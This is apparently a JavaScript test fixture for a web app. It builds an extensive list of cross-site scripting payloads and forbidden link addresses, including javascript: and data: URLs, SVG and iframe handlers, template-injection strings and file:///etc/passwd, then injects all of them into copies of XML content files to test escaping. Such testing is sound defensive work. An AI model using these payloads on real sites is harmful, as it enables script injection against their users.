// What a stranger would write into a pathway to make a page run it, and a pathway that has it all in every place.
// Each calls `hit` if it runs, or asks foreign.invalid for something if it loads.
import {mkdirSync, readFileSync, writeFileSync} from 'node:fs';
import {dirname, join} from 'node:path';
import {filesBelow} from '../../web/static/sources.mjs';

const foreign = 'https://foreign.invalid';

/** Elements that load or run when they come into being, each with its attributes. */
const elements = [
  '<script>hit(1)</script>', '<script src=//foreign.invalid/a.js></script>', `<script type=module src="${foreign}/b.mjs"></script>`,
  '<script>hit`1`</script>', '<scr<script>ipt>hit(1)</scr</script>ipt>', '<SCRIPT/x>hit(1)</SCRIPT>', '<script\n>hit(1)</script\n>',
  '<script type=importmap>{"imports":{"x":"https://foreign.invalid/x"}}</script>', '<script>eval(name)</script>',
  '<script>location="javascript:hit(1)"</script>', '<script>alert(1)</script>', '<script>document.body.innerHTML="x"</script>',
  '<img src=x onerror=hit(1)>', '<img src=x onerror="alert(1)">', `<img src="${foreign}/i.png">`, '<img srcset="//foreign.invalid/s.png 1x">',
  '<img/src="x"/onerror=hit(1)>', '<IMG """><SCRIPT>hit(1)</SCRIPT>">', '<img src=x:x onerror=&#104;it(1)>', '<image href=x onerror=hit(1)>',
  '<picture><source srcset=x><img onerror=hit(1) src=x></picture>', '<img src=x onerror\x0d=hit(1)>', '<img lowsrc=//foreign.invalid/l>',
  '<svg onload=hit(1)>', '<svg><script>hit(1)</script></svg>', '<svg><script href="data:,hit(1)"/></svg>', '<svg/onload=hit(1)//',
  '<svg><animate onbegin=hit(1) attributeName=x dur=1s>', '<svg><set onbegin=hit(1) attributeName=x>', '<svg><image href="//foreign.invalid/v.svg"/></svg>',
  '<svg><use href="https://foreign.invalid/u.svg#a"/></svg>', '<svg><foreignObject><iframe src="javascript:hit(1)"></iframe></foreignObject></svg>',
  '<svg><a href="javascript:hit(1)"><text y=9>x</text></a></svg>', '<svg><style>*{background:url(//foreign.invalid/c)}</style></svg>',
  '<iframe src="javascript:hit(1)"></iframe>', '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>', `<iframe src="${foreign}/f"></iframe>`,
  '<iframe onload=hit(1)></iframe>', '<frameset onload=hit(1)><frame src="javascript:hit(1)"></frameset>', '<object data="javascript:hit(1)"></object>',
  '<object data="//foreign.invalid/o"></object>', '<embed src="javascript:hit(1)">', '<embed src="//foreign.invalid/e">', '<applet code=hit></applet>',
  '<video src=x onerror=hit(1)></video>', '<video><source onerror=hit(1)></video>', '<video poster="//foreign.invalid/p"></video>',
  '<audio src=x onerror=hit(1)></audio>', '<audio src="//foreign.invalid/a"></audio>', '<track src="//foreign.invalid/t">',
  '<style>*{background:url(//foreign.invalid/b)}</style>', '<style>@import "//foreign.invalid/i.css";</style>', '<style>body{display:none}</style>',
  '<link rel=stylesheet href="//foreign.invalid/l.css">', '<link rel=preload as=script href="//foreign.invalid/p.js">', '<link rel=icon href=//foreign.invalid/k>',
  '<link rel=dns-prefetch href=//foreign.invalid>', '<link rel=modulepreload href=//foreign.invalid/m.mjs>', '<link rel=manifest href=//foreign.invalid/w>',
  '<meta http-equiv=refresh content="0;url=https://foreign.invalid/r">', '<meta http-equiv=refresh content="0;url=javascript:hit(1)">',
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`, `<base href="${foreign}/">`, '<base target="hit">',
  '<form action="javascript:hit(1)"><button>x</button></form>', '<form><button formaction="javascript:hit(1)">x</button></form>',
  '<input autofocus onfocus=hit(1)>', '<select autofocus onfocus=hit(1)></select>', '<textarea autofocus onfocus=hit(1)></textarea>',
  '<input type=image src=x onerror=hit(1)>', '<keygen autofocus onfocus=hit(1)>', '<details open ontoggle=hit(1)>x</details>', '<marquee onstart=hit(1)>x</marquee>',
  '<body onload=hit(1)>', '<body background="//foreign.invalid/g">', '<table background="//foreign.invalid/t"></table>',
  '<div style="background:url(//foreign.invalid/d)">x</div>', '<p style="animation:x" onanimationstart=hit(1)>x</p>', '<b onpointerrawupdate=hit(1)>x</b>',
  '<a href="javascript:hit(1)">x</a>', '<a href="data:text/html,<script>hit(1)</script>">x</a>', '<a href="//foreign.invalid" ping="//foreign.invalid/p">x</a>',
  '<math><mtext><script>hit(1)</script></mtext></math>', '<math href="javascript:hit(1)">x</math>', '<template><script>hit(1)</script></template>',
  '<portal src="//foreign.invalid"></portal>', '<dialog open onclose=hit(1)>x</dialog>', '<xss onfocus=hit(1) tabindex=1 autofocus>x</xss>',
];

/** Ways out of the place where a text stands: an attribute, a comment, a script, a style, another format. */
const escapes = [
  '"><script>hit(1)</script>', `'><script>hit(1)</script>`, '"/><img src=x onerror=hit(1)>', `' onmouseover='hit(1)`, '" autofocus onfocus="hit(1)" x="',
  '--><script>hit(1)</script><!--', '--!><script>hit(1)</script>', ']]><script>hit(1)</script>', '</title><script>hit(1)</script>', '</textarea><script>hit(1)</script>',
  '</style><script>hit(1)</script>', '</script><script>hit(1)</script>', '</noscript><script>hit(1)</script>', '</template><img src=x onerror=hit(1)>',
  '<!--<img src="--><img src=x onerror=hit(1)//">', '<![CDATA[<script>hit(1)</script>]]>', '<?xml-stylesheet href="javascript:hit(1)"?>', '<!ENTITY x SYSTEM "//foreign.invalid">',
  '`<script>hit(1)</script>`', '`${hit(1)}`', '${hit(1)}', '{{hit(1)}}', '{{constructor.constructor("hit(1)")()}}', '{title}', '{{main}}', '$&$1$`', '#{hit(1)}', '<%= hit(1) %>',
  '&lt;script&gt;hit(1)&lt;/script&gt;', '&#60;script&#62;hit(1)&#60;/script&#62;', '\\u003cscript\\u003ehit(1)\\u003c/script\\u003e', '%3Cscript%3Ehit(1)%3C/script%3E', '+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
  'javascript:hit(1)', 'jAvAsCrIpT:hit(1)', 'data:text/html,<script>hit(1)</script>', 'vbscript:hit(1)', '=HYPERLINK("https://foreign.invalid","x")', "__proto__", 'constructor', "');hit(1);//", '";hit(1);//', '\\";hit(1);//',
  '[x](javascript:hit(1))', '![x](https://foreign.invalid/m.png)', '\u2028hit(1)\u2029', '\uff1cscript\uff1ehit(1)\uff1c/script\uff1e',
];

export const payloads = [...elements, ...escapes];

/** Addresses that no link may have. */
export const wrongAddresses = [
  'javascript:hit(1)', 'JavaScript:hit(1)', ' javascript:hit(1)', 'java\tscript:hit(1)', 'java\nscript:hit(1)', '\u0001javascript:hit(1)',
  'javascript&colon;hit(1)', 'javascript://foreign.invalid/%0ahit(1)', 'data:text/html,<script>hit(1)</script>', 'data:image/svg+xml,<svg onload=hit(1)>',
  'vbscript:hit(1)', 'blob:https://foreign.invalid/x', 'file:///etc/passwd', 'filesystem:https://foreign.invalid/x', 'http://foreign.invalid',
  'ftp://foreign.invalid', 'ws://foreign.invalid', 'view-source:https://foreign.invalid', 'about:blank', 'intent://x#Intent;end', '//foreign.invalid',
  '/\\foreign.invalid', '\\\\foreign.invalid', 'https:', 'https:/foreign.invalid', 'https:foreign.invalid', 'foreign.invalid', '?x', 'sms:999', 'tel', 'mailto', '',
];

const inXml = (/** @type {string} */ text) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
  .replace(/"/g, '&quot;').replace(/[\r\n\t]/g, ' ');

/**
 * Every payload, another first each time: one that swallows what follows it must not hide the others. Words that were
 * the same stay the same.
 */
function rotation() {
  const turns = new Map();
  return (/** @type {string} */ words) => {
    if (!turns.has(words)) turns.set(words, turns.size % payloads.length);
    const first = turns.get(words);
    return `${words} ${inXml([...payloads.slice(first), ...payloads.slice(0, first)].join(' '))}`;
  };
}

const textElement = /(<(\w+) xml:lang="(?:en|cy)">)([^]*?)(<\/\2>)/g;
/** Attributes that hold any words. */
const freeAttribute = /(<(?:pathway|source|cite)\b[^>]*? (?:edition|part)=")([^"]*)/g;
/** Addresses, whose host is not the stranger's to choose here. */
const address = /(href="https:\/\/[^"]*)/g;

/**
 * A copy of a pathway's folder with all payloads in every text and every attribute that takes words.
 * @param {string} from
 * @param {string} to
 * @returns {{texts: number, attributes: number}} how many places there were
 */
export function injectedCopy(from, to) {
  const next = rotation();
  const places = {texts: 0, attributes: 0};
  for (const path of filesBelow(from)) {
    let content = readFileSync(join(from, path), 'utf8');
    if (path.endsWith('.xml')) {
      content = content
        .replace(textElement, (_, open, __, inside, close) => {
          ++places.texts;
          const isBlocks = inside.includes('</p>');
          return open + (isBlocks ? inside.replace(/<p>([^]*?)<\/p>/g, (/** @type {string} */ _, /** @type {string} */ words) => `<p>${next(words)}</p>`) : next(inside)) + close;
        })
        .replace(freeAttribute, (_, start, value) => (++places.attributes, start + next(value)))
        .replace(address, (_, start) => (++places.attributes, `${start}/%22onload=hit(1)?a='onerror=hit(1)//&amp;lt;script&amp;gt;`));
    } else if (path.endsWith('.walks')) {
      const line = payloads.join(' ').replace(/[\r\n\t\u2028\u2029]/g, ' ');
      content = content.replace(/^((?:en|cy): .*)$/gm, (_, text) => (++places.texts, `${text} ${line}`));
    }
    mkdirSync(dirname(join(to, path)), {recursive: true});
    writeFileSync(join(to, path), content);
  }
  return places;
}
